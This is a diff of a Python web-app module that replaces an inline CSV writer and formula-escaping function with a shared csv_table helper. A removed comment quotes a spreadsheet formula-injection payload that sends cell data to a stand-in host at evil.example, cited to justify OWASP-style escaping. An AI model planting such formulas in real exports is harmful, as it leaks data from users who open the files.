@@ -1,9 +1,7 @@
 """Catalog entries turned into the records pages' models: the sorted, filtered index and one record's detail."""
 from __future__ import annotations
 
-import csv
 import dataclasses
-import io
 from pathlib import Path
 from typing import Literal
 
@@ -11,6 +9,7 @@ from evaluator.check import compliance_report
 from evaluator.check.findings import Evidence, RuleResult
 from evaluator.records.record import read_readme
 from webapp.catalog import CatalogEntry, RecordCatalog
+from webapp.csv_table import csv_table
 from webapp.schemas import RecordDetail, RecordIndex, RecordRow, SeedCurve, TrainPointOut, ValPointOut
 from webapp.views.standing import flagged, verdict
 
@@ -65,28 +64,8 @@ CSV_COLUMNS = ("id", "track", "date", "name", "author", "headline_kind", "best_b
                "claimed_bpb", "worst_total_bytes", "size_cap_bytes", "status", "verdict")
 
 
-# a spreadsheet runs a cell that starts with one of these as a formula (=HYPERLINK("http://evil.example/?"&A1))
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def csv_cell(value) -> str:
-    """A value as a CSV cell no spreadsheet runs: text starting like a formula gets a leading ' (OWASP's rule)."""
-    if value is None:
-        return ""
-    if isinstance(value, float):
-        return f"{value:.8f}"
-    text = str(value)
-    return "'" + text if isinstance(value, str) and text.startswith(FORMULA_STARTS) else text
-
-
 def index_csv(index: RecordIndex) -> str:
-    out = io.StringIO()
-    writer = csv.writer(out, lineterminator="\n")
-    writer.writerow(CSV_COLUMNS)
-    for row in index.rows:
-        values = row.model_dump()
-        writer.writerow([csv_cell(values[col]) for col in CSV_COLUMNS])
-    return out.getvalue()
+    return csv_table(CSV_COLUMNS, (row.model_dump() for row in index.rows))
 
 
 # real logs print a few hundred points per curve; a log that prints every step is thinned to this many (the last
